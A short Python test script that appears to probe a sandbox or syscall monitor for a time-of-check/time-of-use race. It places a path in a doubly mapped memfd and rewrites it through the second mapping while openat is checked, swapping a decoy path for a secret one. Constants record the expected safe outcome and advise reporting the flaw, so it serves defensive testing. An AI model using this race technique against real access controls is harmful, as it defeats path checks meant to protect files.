"""The path lies in a memfd that is mapped twice and rewritten through the other mapping."""

import mmap
import os

from attack import WORK, call, main, read
from race import Race, address_of, until_won

PROMISE = "the path that was judged is the path that is used, however it is written"
CONTROL = "the open gives the decoy"
ADVICE = "report it: arguments are copied once"


def attempt() -> bool:
    memory = os.memfd_create("race")
    os.ftruncate(memory, 4096)
    race = Race(f"{WORK}/hide1/secret", f"{WORK}/hide0/secret", mmap.mmap(memory, 4096))
    race.by_thread(address_of(mmap.mmap(memory, 4096)))
    return until_won(lambda: read(call("openat", -100, race.memory_pointer(), 0)))


main(attempt)
